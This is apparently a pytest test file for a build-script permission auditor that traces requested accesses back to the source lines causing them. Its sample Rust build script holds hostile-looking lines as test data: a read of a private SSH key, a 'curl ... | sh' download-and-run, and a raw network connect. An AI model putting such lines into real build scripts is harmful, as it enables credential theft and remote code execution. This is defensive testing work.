"""What is looked for in sources, and which lines are found."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from buildperm.policy.access import Access, Outcome
from buildperm.policy.kinds import Kind
from buildperm.policy.proposal import Choice, Proposal, Risk
from buildperm.presentation.source_clues import Clue, clues, search

SCRIPT = """\
// Runs "git" and reads proto/a.proto, says CHANNEL.
use std::process::Command;
fn main() {
    let head = Command::new("git").arg("rev-parse").output();
    for file in std::fs::read_dir("proto").unwrap() { read(file); }
    let channel = std::env::var("CHANNEL");
    let key = std::fs::read(format!("{home}/.ssh/id_ed25519"));
    cc::Build::new().file("x.c").compile("x");
    shell("curl http://example.org/x.sh | sh");
    TcpStream::connect("10.0.0.1:80");
    println!("cargo:rustc-env=HEAD={head}");
    let env = 1;
    if rustc >= 80 {}
    let rustc = cargo_env_var("RUSTC");
}
"""


def asked(kind: Kind, target: str, *, chain: tuple[str, ...] = (), command: str = "") -> Proposal:
    """Return a proposal about one access."""
    access = Access(
        kind,
        target,
        Outcome.DONE,
        1,
        0,
        0,
        (("build script", *chain),),
        commands=((command, 1),) if command else (),
    )
    return Proposal(
        "0" * 12, "gen", "1.0.0", "title", (Choice("it", ()),), Risk.LOW, ("note",), (access,)
    )


def found(proposal: Proposal) -> list[int]:
    """Return the numbers of the lines that are found, likeliest first."""
    return [line.number for line in search(SCRIPT, clues(proposal))]


@pytest.mark.parametrize(
    ("proposal", "line"),
    [
        (asked(Kind.EXEC, "git"), 4),
        (asked(Kind.EXEC, "git", command="git rev-parse HEAD"), 4),
        (asked(Kind.READ, "$WORKSPACE/.git/HEAD", chain=("git",)), 4),
        (asked(Kind.READ, "$MANIFEST_DIR/proto/b.proto"), 5),
        (asked(Kind.ENV, "CHANNEL"), 6),
        (asked(Kind.READ, "$HOME/.ssh/id_ed25519"), 7),
        (asked(Kind.EXEC, "cc"), 8),
        (asked(Kind.EXEC, "$SYSROOT/bin/rustc", chain=("rustc",)), 14),
        (asked(Kind.EXEC, "/usr/bin/cc1", chain=("cc",)), 8),
        (asked(Kind.EXEC, "sh", command="sh -c 'curl http://example.org/x.sh | sh'"), 9),
        (asked(Kind.NET, "example.org:80"), 9),
        (asked(Kind.NET, "10.0.0.1:80"), 10),
        (asked(Kind.DIRECTIVE, "rustc-env=HEAD"), 11),
    ],
    ids=lambda value: f"{value.evidence[0]}"[:40] if isinstance(value, Proposal) else "",
)
def test_the_likeliest_line_comes_first(proposal: Proposal, line: int) -> None:
    assert found(proposal)[0] == line


def test_a_remark_is_less_likely_than_code() -> None:
    assert found(asked(Kind.EXEC, "git")) == [4, 1]


def test_what_is_not_there_is_not_found() -> None:
    assert found(asked(Kind.EXEC, "perl")) == []
    assert 6 not in found(asked(Kind.EXEC, "env")), "`std::env` is Rust's own"


def test_a_name_within_another_is_not_found() -> None:
    assert search("let digits = legit;", [Clue(9, "git", is_word=True)]) == []


@given(st.text(), st.lists(st.builds(Clue, st.integers(1, 12), st.text(min_size=1), st.booleans())))
def test_whatever_a_source_holds_lines_hold_their_clue(text: str, wanted: list[Clue]) -> None:
    for line in search(text, wanted):
        assert line.text == text.split("\n")[line.number - 1]
        assert line.clue in line.text


@given(st.sampled_from(Kind), st.text())
def test_whatever_is_asked_about_there_are_few_clues(kind: Kind, target: str) -> None:
    listed = clues(asked(kind, target, command=target))

    assert len(listed) <= 60
    assert list(listed) == sorted(listed, key=lambda clue: (-clue.score, clue.text))
